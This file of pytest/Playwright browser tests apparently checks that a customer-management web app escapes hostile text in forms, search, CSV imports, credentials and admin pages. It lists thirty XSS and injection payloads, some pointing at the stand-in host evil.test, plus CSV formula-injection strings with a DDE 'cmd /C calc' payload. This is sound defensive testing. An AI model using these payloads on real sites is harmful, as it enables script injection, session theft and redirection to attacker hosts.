"""Hostile text in every field is shown as it was typed and never runs."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page, expect

from customers.models import ApiKey, Customer, Organization
from customers.staff.models import StaffUser
from tests import factories
from tests.browser.support import ACME, Browsing, field, find, names, page_of, press, search_box
from tests.imports.support import csv_bytes

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(3)>",
    '<img src="x" onerror="alert(4)">',
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><animate onbegin=alert(7) attributeName=x>",
    "<body onload=alert(8)>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<details open ontoggle=alert(10)>",
    "<input autofocus onfocus=alert(11)>",
    "<a href=javascript:alert(12)>x</a>",
    "<form action=//evil.test><button>x",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>",
    "<style>*{display:none}</style>",
    "<!--<b>--><i>",
    '"><script>alert(13)</script>',
    '" onmouseover="alert(14)" x="',
    "' onfocus='alert(15)' autofocus='",
    "</textarea><script>alert(16)</script>",
    "</title><script>alert(17)</script>",
    "javascript:alert(18)",
    "{{7*7}}{% debug %}${7*7}",
    "&lt;script&gt;alert(19)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(20)\uff1c/script\uff1e",
    "\u202e<b>txet desrever\u202c\u200b",
    '=HYPERLINK("http://evil.test","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
#: Addresses that a link would run.
RUNNING = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
LONGEST = 250
#: The fields of a customer that take any text.
TEXTS = (
    *("name", "legal_name", "legal_number", "reference", "processor_reference", "external_id"),
    *("address_line1", "address_line2", "city", "state", "postal_code", "phone"),
)
#: Those of them that refuse characters which no one sees.
IDENTIFIERS = ("legal_number", "processor_reference", "external_id", "phone")
_UNSEEN = dict.fromkeys(map(ord, "\u202e\u202c\u200b"))
_ADDED = """
() => document.querySelectorAll(
  "main script, main iframe, main img, main base, main meta, main style, main animate, main b,"
  + " [onerror], [onload], [onfocus], [ontoggle], [onbegin], [onmouseover], [href^='javascript' i],"
  + " main form[action*=evil], script:not([src])"
).length
"""

_ADDED_TO_FORM = "() => document.querySelectorAll('[onerror], [ontoggle], iframe, animate').length"


def packs() -> list[str]:
    """All hostile texts, joined into as few as fit in a field."""
    found = [""]
    for text in HOSTILE:
        if len(found[-1]) + 1 + len(text) > LONGEST:
            found.append("")
        found[-1] = f"{found[-1]} {text}".strip()
    return found


def values_of(pack: str) -> dict[str, str]:
    """The pack for each field, as far as the field takes it."""
    visible = pack.translate(_UNSEEN)
    return {name: visible if name in IDENTIFIERS else pack for name in TEXTS}


def is_shown(page: Page, *texts: str) -> None:
    """Assert that the page shows the texts unchanged and that no element came of them."""
    found = page.evaluate("() => document.body.textContent")
    assert [text for text in texts if text not in found] == [], page.url
    assert page.evaluate(_ADDED) == 0, page.url


def test_there_are_thirty_kinds_in_few_packs() -> None:
    assert len(set(HOSTILE)) == 30
    assert len(packs()) <= 6


@pytest.mark.parametrize("pack", packs(), ids=lambda pack: str(packs().index(pack)))
def test_text_of_a_customer_is_escaped(sara: Page, acme: Organization, pack: str) -> None:
    """Typed into every field, then read on every page that shows one."""
    short = pack[:40].strip()
    sara.goto(f"{ACME}/customers/new/")
    for name, text in values_of(pack).items():
        sara.locator(f"#id_{name}").fill(text)
    sara.locator("#id_email").fill("twin@example.org")
    sara.get_by_label("Key 1").fill(short)
    sara.get_by_label("Value 1").fill(pack)
    field(sara, "Reason").fill(pack)
    press(sara, "Create customer")
    expect(sara.get_by_text("is created.")).to_be_visible()
    is_shown(sara, pack, short, f"Reason: {pack}", f"{pack} is created.")
    customer = Customer.objects.get()
    assert {name: getattr(customer, name) for name in TEXTS} == values_of(pack)
    assert customer.metadata == {short: pack}

    twin = factories.customer(acme, email="twin@example.org", name=pack)
    factories.user(customer, first_name=pack, last_name=pack, email="ada@example.org")
    factories.payment_method(
        customer, brand=pack[:32].strip(), processor=pack[:64].strip(), processor_token=pack
    )
    Customer.objects.filter(pk=customer.pk).update(city=f"{pack}!")
    sara.goto(page_of(customer))
    is_shown(sara, pack, f"{pack}!", "1 possible duplicate", f"{pack} {pack}")

    everything = "&".join(
        f"column={name}" for name in ("external_id", "city", "phone", "reference")
    )
    sara.goto(f"{ACME}/customers/?{everything}")
    is_shown(sara, pack, f"{pack}!")
    assert len(names(sara)) == 2
    sara.goto(page_of(customer, "edit/"))
    assert sara.locator("#id_name").input_value() == pack
    assert sara.get_by_label("Value 1").input_value() == pack
    is_shown(sara, f"Edit {pack}")
    customer.revise({"state": f"{pack}?", "metadata": {short: f"{pack}?"}})
    sara.locator("#id_state").fill(f"{pack}.")
    sara.get_by_label("Value 1").fill(f"{pack}.")
    press(sara, "Save")
    expect(sara.get_by_role("button", name="Save what I chose")).to_be_visible()
    is_shown(sara, f"{pack}?", f"{pack}.", f"{short}: {pack}?", f"{short}: {pack}.")
    for part in ("archive/", "users/add/", "payment-methods/add/"):
        sara.goto(page_of(customer, part))
        is_shown(sara, pack)
    customer.archive()
    factories.customer(acme, name=pack, external_id=values_of(pack)["external_id"])
    sara.goto(page_of(customer, "restore/"))
    is_shown(sara, f"Edit {pack}")
    sara.goto(f"{ACME}/customers/")
    sara.get_by_role("checkbox", name="Select all on this page").check()
    press(sara, "Archive…")
    expect(sara.get_by_role("heading", name="Archive 2 customers?")).to_be_visible()
    is_shown(sara, pack)
    assert twin.name == pack


def test_text_of_users_and_payment_methods_is_escaped(sara: Page, customer: Customer) -> None:
    for number, pack in enumerate(packs()):
        sara.goto(page_of(customer, "users/add/"))
        field(sara, "First name").fill(pack)
        field(sara, "Last name").fill(f"{number}")
        press(sara, "Add a user")
        expect(sara.locator("ul.messages")).to_have_text(f"{pack} {number} is added. Undo")
        user = customer.users.get(last_name=f"{number}")
        for part in ("", "remove/"):
            sara.goto(page_of(customer, f"users/{user.pk}/{part}"))
            is_shown(sara, f"{pack} {number}")

        sara.goto(page_of(customer, "payment-methods/add/"))
        field(sara, "Type").select_option("card")
        brand = pack[:32].strip()
        for name, value in {"Brand": brand, "Bank name": pack, "Processor token": pack}.items():
            field(sara, name).fill(value)
        press(sara, "Add a payment method")
        expect(sara.locator("ul.messages")).to_have_text(f"{brand} is added. Undo")
        is_shown(sara, pack)
        method = customer.payment_methods.get(processor_token=pack)
        for part in ("", "remove/"):
            sara.goto(page_of(customer, f"payment-methods/{method.pk}/{part}"))
            is_shown(sara, brand)


def test_a_search_is_escaped(sara: Page, customer: Customer) -> None:
    sara.goto(f"{ACME}/")
    for pack in packs():
        find(sara, pack)
        expect(search_box(sara)).to_have_value(pack)
        expect(sara.get_by_text("Results for")).to_be_visible()
        is_shown(sara, f"Results for {pack}.")


def test_text_of_a_file_is_escaped(sara: Page, acme: Organization) -> None:
    """In the names of the file and its columns, and in cells, refused or not."""
    rows = [[f"x-{number}", text, "nobody"] for number, text in enumerate(HOSTILE)]
    header = ["external_id", HOSTILE[3], HOSTILE[0]]
    sara.goto(f"{ACME}/imports/new/")
    sara.get_by_label("CSV or XLSX file").set_input_files(
        {
            "name": "<svg onload=alert(1)>.csv",
            "mimeType": "text/csv",
            "buffer": csv_bytes(header, *rows),
        }
    )
    press(sara, "Upload the file")
    expect(sara.get_by_role("heading", name="Match the columns")).to_be_visible()
    is_shown(sara, *header, *HOSTILE[:3], "<svg onload=alert(1)>.csv")
    sara.locator("#id_column_1").select_option("name")
    sara.locator("#id_column_2").select_option("email")
    press(sara, "Check the rows")
    expect(sara.get_by_text("30 rows are refused").first).to_be_visible()
    is_shown(sara, HOSTILE[0])
    sara.get_by_role("link", name="Match the columns again").click()
    sara.locator("#id_column_2").select_option("")
    press(sara, "Check the rows")
    expect(sara.get_by_role("button", name="Import 30 rows")).to_be_visible()
    beginnings = [text[:39] for text in HOSTILE]  # the table shows no more of a longer cell
    is_shown(sara, *beginnings)
    press(sara, "Import 30 rows")
    expect(sara.get_by_text("The file is imported")).to_be_visible()
    is_shown(sara, *beginnings)
    assert set(Customer.objects.values_list("name", flat=True)) == set(HOSTILE)

    sara.goto(f"{ACME}/customers/")
    is_shown(sara, *HOSTILE)
    sara.goto(f"{ACME}/imports/")
    is_shown(sara, "<svg onload=alert(1)>.csv")


def test_the_name_of_a_credential_is_escaped(sara: Page, acme: Organization) -> None:
    for pack in packs():
        sara.goto(f"{ACME}/credentials/new/")
        field(sara, "Name").fill(pack)
        press(sara, "Issue")
        expect(sara.get_by_text("Copy it now.")).to_be_visible()
        is_shown(sara, f"{pack} is issued")
    sara.goto(f"{ACME}/credentials/")
    is_shown(sara, *packs())


def test_text_in_the_administration_is_escaped(browsing: Browsing, acme: Organization) -> None:
    grace = browsing.window(StaffUser.objects.create_superuser("grace"))
    for pack in packs():
        texts: dict[str, Any] = values_of(pack)
        customer = factories.customer(acme, **texts, metadata={pack[:40].strip(): pack})
        factories.user(customer, first_name=pack)
        ApiKey.issue(acme, "live", name=pack)
        grace.goto(f"/admin/customers/customer/{customer.pk}/change/")
        assert grace.locator("#id_name").input_value() == pack
        assert grace.evaluate(_ADDED_TO_FORM) == 0
    for name in ("customer", "apikey"):
        grace.goto(f"/admin/customers/{name}/")
        text = grace.locator("#result_list").text_content() or ""
        assert [pack for pack in packs() if pack not in text] == []


def test_the_name_of_a_staff_member_is_escaped(browsing: Browsing, acme: Organization) -> None:
    person = factories.staff(
        "mallory", "Manager", organizations=[acme], first_name=HOSTILE[3], last_name=HOSTILE[0]
    )
    acme.name = HOSTILE[5]
    acme.save(update_fields=["name"])
    page = browsing.window(person)
    for address in (f"{ACME}/", "/backoffice/account/"):
        page.goto(address)
        is_shown(page, f"{HOSTILE[3]} {HOSTILE[0]}", HOSTILE[5])


def test_a_url_that_would_run_is_refused(sara: Page, customer: Customer) -> None:
    for url in RUNNING:
        sara.goto(page_of(customer, "edit/"))
        for name in ("#id_url", "#id_logo_url"):
            sara.locator(name).fill(url)
        press(sara, "Save")

        expect(sara.locator(".errorlist")).to_have_count(2)
        expect(sara.locator("#id_url")).to_have_value(url)
        is_shown(sara)
    customer.refresh_from_db()
    assert (customer.url, customer.logo_url) == (None, None)
